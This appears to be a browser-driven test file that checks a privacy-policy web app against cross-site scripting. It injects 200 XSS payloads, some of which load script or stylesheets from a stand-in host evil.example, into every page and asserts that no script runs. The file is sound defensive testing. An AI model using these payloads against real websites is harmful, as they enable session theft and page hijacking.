// Two hundred texts that try to be code (T9, T10), wherever a text of the company or of its people is shown, opened in a real browser: no dialog, no violation, no new element.
import assert from 'node:assert/strict';
import { type TestContext, after, before, test } from 'node:test';
import { sha256 } from '#base';
import { type Browser, browserAdvice, openBrowser } from '#chrome';
import type { Prose, PublishedPolicy } from '#policy';
import { read } from '#read';
import { type Listening, listen } from './listen.ts';
import { sampleChanges } from './sample-changes.ts';
import { type SampleHouse, sampleHouse } from './sample-house.ts';
import { sampleImport } from './sample-imports.ts';
import {
  sampleErasure,
  sampleOrganisation,
  samplePerson,
  samplePurpose,
  sampleRecord,
  sampleTwin,
} from './sample-people.ts';
import { sampleBoard, samplePolicy } from './sample.ts';
import { website } from './website.tsx';

const code = 'alert(document.domain)';
const seeds: readonly string[] = [
  `<script>${code}</script>`,
  `<ScRiPt src=//evil.example/x.js></sCrIpT>`,
  `<script>/*<!--*/${code}//--></script>`,
  `<img src=x onerror=${code}>`,
  `<img/src="x"/onerror=${code}//`,
  `<IMG """><SCRIPT>${code}</SCRIPT>">`,
  `<svg onload=${code}>`,
  `<svg><script>${code}</script></svg>`,
  `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${code}"><text y=20>x</text></a>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${code}>`,
  `<math href="javascript:${code}">x</math>`,
  `<body onload=${code}>`,
  `<iframe src="javascript:${code}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${code}&lt;/script&gt;"></iframe>`,
  `<object data="data:text/html,<script>${code}</script>"></object>`,
  `<embed src="javascript:${code}">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import '//evil.example/x.css';</style>`,
  `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  `<base href=//evil.example/>`,
  `<form action="javascript:${code}"><button>x</button></form>`,
  `<input autofocus onfocus=${code}>`,
  `<select autofocus onfocus=${code}></select>`,
  `<textarea autofocus onfocus=${code}></textarea>`,
  `<details open ontoggle=${code}>x</details>`,
  `<video><source onerror=${code}></video>`,
  `<audio src=x onerror=${code}></audio>`,
  `<marquee onstart=${code}>x</marquee>`,
  `<template><script>${code}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  `<a href="javascript:${code}">x</a>`,
  `<div style="background:url(javascript:${code})">x</div>`,
  `<p onclick=${code}>x</p>`,
  `<!--><img src=x onerror=${code}>-->`,
  `<![CDATA[<script>${code}</script>]]>`,
  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${code}</x:script>`,
  `{{constructor.constructor('${code}')()}}`,
  '${' + code + '}',
  `javascript:${code}`,
  `JaVaScRiPt:${code}`,
  `java\tscript:${code}`,
  ` javascript:${code}`,
  `\u0001javascript:${code}`,
  `data:text/html,<script>${code}</script>`,
  `data:image/svg+xml,<svg onload=${code}>`,
  `vbscript:${code}`,
  `//evil.example/\\"onmouseover=${code}`,
  `https://x.example/" onmouseover=${code} x="`,
  `\u2028<script>${code}</script>\u202e`,
];
/** Ways out of where a text may stand: plain, an attribute, a text-only element, an encoded one. */
const wrappers: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `x" autofocus onfocus=${code} '>${payload}`,
  (payload) => `</title></style></textarea></script></article></main>${payload}`,
  (payload) => `&lt;x&gt;&#60;script&#62;&#x3c;img&#x3e;&quot;${payload}`,
];
const payloads = wrappers.flatMap((wrap) => seeds.map(wrap));
assert.equal(payloads.length, 200);

const everything = process.env['UPHELD_TEST_ALL'] === '1';
let browser: Browser | null = null;
let site: Listening;
let house: SampleHouse;

before(async () => {
  browser = await openBrowser({ home: '.upheld' });
  house = sampleHouse();
  site = await listen(website(house).fetch, { host: '127.0.0.1', port: 0 });
});

after(async () => {
  await browser?.close();
  await site.close();
});

function browserOrSkip(t: TestContext): Browser | null {
  if (browser) return browser;
  if (everything) assert.fail(`no browser to open the pages with. ${browserAdvice.en}`);
  t.skip(`no browser to open the pages with. ${browserAdvice.en}`);
  return null;
}

/** Texts one after the other, each in every place that the prose of a policy has. */
function proseWith(...texts: readonly string[]): Prose {
  let ordinal = 0;
  const segment = (words: string, href?: string) => ({
    id: `${sha256(words).slice(0, 12)}-${++ordinal}`,
    text: words,
    span: [0, words.length] as [number, number],
    runs: [{ text: words, ...(href === undefined ? {} : { href }), strong: true as const }],
  });
  const block = (kind: Prose['blocks'][number]['kind'], depth: number, marker: string | null, ...words: string[]) => ({
    kind,
    depth,
    marker,
    segments: words.map((word) => segment(word)),
  });
  return {
    format: 'html',
    language: 'en',
    title: texts[0]!,
    blocks: texts.flatMap((text) => [
      block('heading', 1, null, text),
      block('heading', 2, null, text),
      block('paragraph', 0, null, text, text),
      block('item', 1, text, text),
      block('row', 0, null, text, text),
      { kind: 'paragraph' as const, depth: 0, marker: null, segments: [segment('a link', text)] },
    ]),
  };
}

/** What a page is made of: tags with their counts, attributes that hold code, addresses by their scheme. Links are judged by the scheme. */
const look = `(() => {
  const tags = {};
  const bad = [];
  for (const element of document.querySelectorAll('*')) {
    const tag = element.localName;
    if (tag !== 'a') tags[tag] = (tags[tag] ?? 0) + 1;
    for (const { name, value } of element.attributes) {
      if (/^on|^style$|^srcdoc$|^formaction$/.test(name)) bad.push(tag + ' ' + name);
      if (!/^(?:href|src|action|data|xlink:href)$/.test(name) || value.startsWith('data:image/svg+xml,%3Csvg')) continue;
      const url = URL.parse(value, 'https://here.invalid/policy');
      if (!['http:', 'https:', 'mailto:', 'tel:'].includes(url?.protocol)) bad.push(name + '=' + value);
    }
  }
  return { tags, bad };
})()`;

interface Seen {
  tags: Record<string, number>;
  bad: string[];
}

async function watchedPage(at: Browser) {
  const context = await at.newContext();
  await context.addCookies([
    { name: 'upheld-session', value: 'a-session', url: site.url },
    { name: 'upheld-purpose', value: samplePurpose, url: site.url },
  ]);
  const page = await context.newPage();
  const trouble: string[] = [];
  page.on('dialog', (dialog) => {
    trouble.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('console', (message) => {
    if (/content security policy|refused to/i.test(message.text())) trouble.push(message.text());
  });
  page.on('pageerror', (error) => trouble.push(String(error)));
  page.on('request', (request) => {
    if (!request.url().startsWith(`${site.url}/`) && !request.url().startsWith('data:image/svg'))
      trouble.push(request.url());
  });
  const open = async (path: string): Promise<Seen> => {
    await page.goto(site.url + path, { waitUntil: 'load' });
    const seen = await page.evaluate<Seen>(look);
    assert.deepEqual(seen.bad, [], path);
    assert.equal(page.url(), site.url + path);
    return seen;
  };
  return { open, trouble, close: () => context.close() };
}

const withText = (...texts: readonly string[]): PublishedPolicy => {
  const policy = { ...samplePolicy(3).policy, meta: { ...samplePolicy(3).policy.meta, title: texts[0]! } };
  return { ...samplePolicy(3), prose: proseWith(...texts), policy };
};

test('200 texts in every place of the prose, four a page; title, company, authority and its address take turns', async (t) => {
  const at = browserOrSkip(t);
  if (!at) return;
  const page = await watchedPage(at);
  const set = (...texts: readonly [string, string, string, string]): void => {
    const [, name, authority, address] = texts;
    house.company = () => Promise.resolve({ id: 'default', name, boardPublic: true });
    house.published = () => Promise.resolve(withText(...texts));
    house.authority = () => ({ name: authority, address: [address], website: 'https://authority.example/' });
  };
  set('harmless', 'harmless', 'harmless', 'harmless');
  const plain = await page.open('/policy');
  // One seed in its four wrappers a page, each seed beginning at another place: every place meets every wrapper.
  for (const [nth, seed] of seeds.entries()) {
    const four = wrappers.map((_, at) => wrappers[(at + nth) % wrappers.length]!(seed));
    set(four[0]!, four[1]!, four[2]!, four[3]!);
    assert.deepEqual((await page.open('/policy')).tags, plain.tags, seed);
    assert.deepEqual(page.trouble, [], seed);
  }
  await page.close();
});

test('all of them as titles of versions, changed words, reasons and names on the pages of history and changes', async (t) => {
  const at = browserOrSkip(t);
  if (!at) return;
  const page = await watchedPage(at);
  const set = (texts: readonly string[]): void => {
    const [text = ''] = texts;
    house.company = () => Promise.resolve({ id: 'default', name: text, boardPublic: true });
    house.published = () => Promise.resolve(withText('harmless'));
    house.versions = () =>
      Promise.resolve(
        texts.map((title, index) => ({ number: index + 1, title, publishedAt: '2026-03-10T09:00:00Z', sha256: title })),
      );
    const changes = sampleChanges(1, 2);
    house.changes = () =>
      Promise.resolve({
        ...changes,
        decided: { by: text, why: text },
        text: {
          ...changes.text,
          changes: texts.flatMap((words) =>
            changes.text.changes.map((change) => ({
              ...change,
              under: 'harmless',
              from: change.from && words,
              pieces: change.pieces.map((piece) => ({ ...piece, text: words })),
              links: change.links && { before: [words], after: [words] },
            })),
          ),
        },
        facts: {
          corrected: 1,
          said: texts.map((label) => ({
            ...changes.facts.said[0]!,
            message: { key: 'publish.addedRecipient', values: { label } },
            subjects: [label],
          })),
        },
      });
  };
  set(payloads.map(() => 'harmless'));
  const [history, changes] = [await page.open('/policy/history'), await page.open('/policy/versions/2/changes')];
  set(payloads);
  assert.deepEqual((await page.open('/policy/history')).tags, history.tags);
  assert.deepEqual((await page.open('/policy/versions/2/changes')).tags, changes.tags);
  assert.deepEqual(page.trouble, []);
  await page.close();
});

test('all of them as names and statements of attestations, and as reasons, on the board and in the console', async (t) => {
  const at = browserOrSkip(t);
  if (!at) return;
  const page = await watchedPage(at);
  const set = (texts: readonly string[]): void => {
    let next = 0;
    const marks = Object.fromEntries(
      Object.entries(sampleBoard.marks).map(([id, mark]) => [
        id,
        {
          ...mark,
          promises: mark.promises.map((promise) => ({
            ...promise,
            because: { key: 'probes.pageDiffers', values: { version: 1, difference: texts[next % texts.length]! } },
            attestations: promise.attestations.map((given) => {
              const text = texts[next++ % texts.length]!;
              return { ...given, by: text, statement: text, fileName: text };
            }),
          })),
        },
      ]),
    );
    house.state.board = { ...sampleBoard, company: texts[0]!, marks };
  };
  const some = (from: number): string[] => payloads.slice(from, from + 25);
  set(['harmless']);
  const paths = ['/board?promise=p-attest-training', '/console', '/console/attest?promise=p-attest-training'];
  const plain = new Map<string, Seen>();
  for (const path of paths) plain.set(path, await page.open(path));
  for (let from = 0; from < payloads.length; from += 25) {
    set(some(from));
    for (const path of paths) assert.deepEqual((await page.open(path)).tags, plain.get(path)?.tags, path);
    assert.deepEqual(page.trouble, []);
  }
  await page.close();
});

test('all of them as sentences that the search finds and marks, and as what was searched for', async (t) => {
  const at = browserOrSkip(t);
  if (!at) return;
  const page = await watchedPage(at);
  const set = (texts: readonly string[]): void => {
    const blocks = texts.flatMap((text) => proseWith(`zorb ${text}`).blocks.slice(0, 1));
    house.state.board = { ...sampleBoard, marks: {}, findings: [], prose: { ...sampleBoard.prose, blocks } };
  };
  const open = (words: string) => page.open(`/console/search?${new URLSearchParams({ q: words }).toString()}`);
  const atOnce = 14;
  set(Array.from({ length: atOnce }, () => 'harmless'));
  const [found, nothing] = [await open('zorb'), await open('zzzz')];
  assert.equal(found.tags['mark'], atOnce);
  for (let from = 0; from + atOnce <= payloads.length; from += atOnce) {
    set(payloads.slice(from, from + atOnce));
    assert.deepEqual((await open('zorb')).tags, found.tags);
    assert.deepEqual((await open(`zzzz ${payloads[from]}`)).tags, nothing.tags);
    assert.deepEqual(page.trouble, []);
  }
  await page.close();
});

test('all of them through the reader, from plain text, Markdown and HTML', async (t) => {
  const at = browserOrSkip(t);
  if (!at) return;
  const page = await watchedPage(at);
  for (const [name, paragraphs] of [
    ['policy.txt', (text: string) => text],
    ['policy.md', (text: string) => `${text}\n\n[${text}](${text})\n\n- ${text}`],
    ['policy.html', (text: string) => `<h2>${text}</h2><p>${text}</p><p><a href="${text}">x</a></p>`],
  ] as const) {
    const source = { name, text: `Privacy Policy\n\nWe keep your name.\n\n${payloads.map(paragraphs).join('\n\n')}` };
    const { prose, policy } = read(source);
    house.published = () => Promise.resolve({ ...samplePolicy(3), prose, policy, source });
    const { tags } = await page.open('/policy');
    for (const tag of [
      'script',
      'style',
      'iframe',
      'object',
      'embed',
      'img',
      'svg',
      'math',
      'form',
      'input',
      'base',
      'video',
      'audio',
      'template',
      'textarea',
      'select',
      'marquee',
    ])
      assert.equal(tags[tag], undefined, `${name}: ${tag}`);
    assert.deepEqual(page.trouble, [], name);
  }
  await page.close();
});

test('half of them in every text of a person, of declared types and purposes, in the log and in its erasure', async (t) => {
  const at = browserOrSkip(t);
  if (!at) return;
  const page = await watchedPage(at);
  const paths = [
    '/console/people',
    `/console/people/${samplePerson}`,
    `/console/people/${samplePerson}/change/${sampleRecord}`,
    `/console/people/${samplePerson}/add?type=repair`,
    `/console/people/${samplePerson}/erase`,
    `/console/people/${samplePerson}/merge/${sampleTwin}`,
    `/console/people/${samplePerson}/organisation`,
    `/console/organisations/${sampleOrganisation}`,
    `/console/people/import/${sampleImport}`,
    `/console/erasures/${sampleErasure}`,
    '/console/audit',
  ];
  const plain = new Map<string, Seen>();
  house.state.people.text = 'harmless';
  for (const path of paths) plain.set(path, await page.open(path));
  // Each seed by two ways out of where it stands, on one page after the other: all on all would take minutes.
  const some = payloads.filter((_, index) => (index + Math.floor(index / seeds.length)) % 2 === 0);
  assert.equal(some.length, 100);
  for (const [index, payload] of some.entries()) {
    house.state.people.text = payload;
    const path = paths[index % paths.length]!;
    assert.deepEqual((await page.open(path)).tags, plain.get(path)?.tags, `${path} ${payload}`);
    assert.deepEqual(page.trouble, [], payload);
  }
  house.state.people.text = '';
  await page.close();
});

test('the check can fail: a page with one handler and one script is found', async (t) => {
  const at = browserOrSkip(t);
  if (!at) return;
  const context = await at.newContext();
  const page = await context.newPage();
  await page.setContent(`<p onclick="1">x</p><a href="javascript:1">y</a><script>1</script>`);
  const seen = await page.evaluate<Seen>(look);
  assert.deepEqual(seen.bad, ['p onclick', 'href=javascript:1']);
  assert.equal(seen.tags['script'], 1);
  await context.close();
});
